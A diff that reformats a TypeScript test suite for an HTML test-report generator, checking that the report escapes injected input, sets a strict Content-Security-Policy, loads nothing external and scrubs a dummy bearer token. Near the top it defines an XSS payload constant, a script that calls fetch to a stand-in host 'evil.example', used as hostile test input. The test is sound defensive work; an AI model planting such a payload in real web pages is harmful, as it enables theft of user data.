@@ -12,7 +12,20 @@ const XSS = `<img src=x onerror=alert(1)><script>fetch('https://evil.example/'+d
 const SECRET = 'hunter2-super-secret-value';
 
 function step(p: Partial<StepResult> & { id: string }): StepResult {
-  return { name: p.id, kind: 'invoke', line: 3, status: 'pass', argv: ['invoke', 'agent', '--json'], secretArgs: [], startMs: 0, durationMs: 12, stdout: '', stderr: '', checks: [{ label: 'allow', ok: true }], ...p };
+  return {
+    name: p.id,
+    kind: 'invoke',
+    line: 3,
+    status: 'pass',
+    argv: ['invoke', 'agent', '--json'],
+    secretArgs: [],
+    startMs: 0,
+    durationMs: 12,
+    stdout: '',
+    stderr: '',
+    checks: [{ label: 'allow', ok: true }],
+    ...p,
+  };
 }
 
 const diagram: SequenceDiagram = {
@@ -29,9 +42,24 @@ const diagram: SequenceDiagram = {
 
 const runs: HtmlRun[] = [
   {
-    summary: { scenario: `inbound ${XSS}`, file: 'inbound.yaml', passed: 1, failed: 1, errored: 0, skipped: 1, total: 3, durationMs: 345, exitCode: 6, results: [] },
+    summary: {
+      scenario: `inbound ${XSS}`,
+      file: 'inbound.yaml',
+      passed: 1,
+      failed: 1,
+      errored: 0,
+      skipped: 1,
+      total: 3,
+      durationMs: 345,
+      exitCode: 6,
+      results: [],
+    },
     steps: [
-      { result: step({ id: 'ok-step', argv: ['invoke', 'agent', '--bearer-token', SECRET, '--json'], secretArgs: [3] }), diagram, trace: `→ POST http://127.0.0.1/runtimes/x/invocations\n    authorization: Bearer eyJhbG…[812 chars]\n← 200 (5 ms)` },
+      {
+        result: step({ id: 'ok-step', argv: ['invoke', 'agent', '--bearer-token', SECRET, '--json'], secretArgs: [3] }),
+        diagram,
+        trace: `→ POST http://127.0.0.1/runtimes/x/invocations\n    authorization: Bearer eyJhbG…[812 chars]\n← 200 (5 ms)`,
+      },
       {
         result: step({
           id: 'bad',
@@ -51,7 +79,13 @@ const runs: HtmlRun[] = [
   },
 ];
 
-const html = htmlReport(runs, { scrub: (t) => t.split(SECRET).join('hunt…[26 chars]'), timestamp: new Date('2026-01-02T03:04:05Z'), exitCode: 6, durationMs: 400, version: '0.1.0' });
+const html = htmlReport(runs, {
+  scrub: (t) => t.split(SECRET).join('hunt…[26 chars]'),
+  timestamp: new Date('2026-01-02T03:04:05Z'),
+  exitCode: 6,
+  durationMs: 400,
+  version: '0.1.0',
+});
 
 /** Every inline <svg>…</svg> of the page, parsed as XML. */
 function svgs(page: string): XmlElement[] {
@@ -61,10 +95,16 @@ function svgs(page: string): XmlElement[] {
 describe('smoke --html report', () => {
   it('fetches nothing: no script, no external reference, a CSP that forbids everything but inline style', () => {
     expect(html).toMatch(/^<!doctype html>/);
-    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'">`);
+    expect(html).toContain(
+      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'">`,
+    );
     expect(html).not.toMatch(/@import|url\(/i);
     // Every tag of the page is one the builder writes; none has src, on…, or an href leaving the page.
-    const allowed = new Set('html head meta title style body main header h1 h2 h3 p span table thead tbody tr th td a section pre ul li strong details summary figure figcaption svg rect line text path polygon polyline'.split(' '));
+    const allowed = new Set(
+      'html head meta title style body main header h1 h2 h3 p span table thead tbody tr th td a section pre ul li strong details summary figure figcaption svg rect line text path polygon polyline'.split(
+        ' ',
+      ),
+    );
     const tags = [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s[^>]*)?)>/g)];
     expect(tags.length).toBeGreaterThan(50);
     for (const [, name, attrs] of tags) {
@@ -72,7 +112,9 @@ describe('smoke --html report', () => {
       expect(attrs).not.toMatch(/\s(src|on[a-z]+|srcset|action|formaction|xlink:href)=/i);
     }
     // The only absolute URL is the SVG namespace (an identifier, never fetched).
-    const urls = [...html.matchAll(/(?:https?:)?\/\/[\w.-]+\.[a-z]{2,}[^\s"'<]*/gi)].map((m) => m[0]).filter((u) => !u.startsWith('//evil') && !u.includes('evil.example'));
+    const urls = [...html.matchAll(/(?:https?:)?\/\/[\w.-]+\.[a-z]{2,}[^\s"'<]*/gi)]
+      .map((m) => m[0])
+      .filter((u) => !u.startsWith('//evil') && !u.includes('evil.example'));
     expect(new Set(urls)).toEqual(new Set(['http://www.w3.org/2000/svg']));
     // In-page anchors only.
     for (const m of html.matchAll(/href="([^"]*)"/g)) expect(m[1]).toMatch(/^#step-\d+-\d+$/);
@@ -95,7 +137,8 @@ describe('smoke --html report', () => {
   it('has the summary, every step with its verdict, and the failing step opened', () => {
     expect(html).toContain('expectations failed (exit 6)');
     expect(html).toContain('1 passed, 1 failed, 0 could not run, 1 skipped of 3 steps');
-    for (const id of ['ok-step', 'bad', 'later']) expect(html).toMatch(new RegExp(`<section class="step s-(pass|fail|skipped)" id="step-1-\\d">\\n<h3>.*${id}`));
+    for (const id of ['ok-step', 'bad', 'later'])
+      expect(html).toMatch(new RegExp(`<section class="step s-(pass|fail|skipped)" id="step-1-\\d">\\n<h3>.*${id}`));
     expect(html).toMatch(/<section class="step s-fail" id="step-1-2">[\s\S]*?<details open><summary>trace/);
     expect(html).toMatch(/<section class="step s-pass" id="step-1-1">[\s\S]*?<details><summary>trace/);
     expect(html).toContain('exit 4 · HTTP 403');
@@ -113,10 +156,21 @@ describe('smoke --html report', () => {
         e.children.forEach(walk);
       };
       walk(svg);
-      expect(texts).toEqual(expect.arrayContaining(['agentcore-auth', 'AgentCore Runtime', 'InvokeAgentRuntime · SigV4', '403 AccessDeniedException', `refused: ${XSS}`]));
+      expect(texts).toEqual(
+        expect.arrayContaining([
+          'agentcore-auth',
+          'AgentCore Runtime',
+          'InvokeAgentRuntime · SigV4',
+          '403 AccessDeniedException',
+          `refused: ${XSS}`,
+        ]),
+      );
     }
     const sources = [...html.matchAll(/<summary>Mermaid source<\/summary><pre>([\s\S]*?)<\/pre>/g)].map((m) =>
-      m[1]!.replace(/&(lt|gt|amp|quot|#39|#96);/g, (_, e: string) => ({ lt: '<', gt: '>', amp: '&', quot: '"', '#39': "'", '#96': '`' })[e]!),
+      m[1]!.replace(
+        /&(lt|gt|amp|quot|#39|#96);/g,
+        (_, e: string) => ({ lt: '<', gt: '>', amp: '&', quot: '"', '#39': "'", '#96': '`' })[e]!,
+      ),
     );
     expect(sources).toHaveLength(2);
     expect(parseMermaid(sources[0]!)).toEqual(diagram);
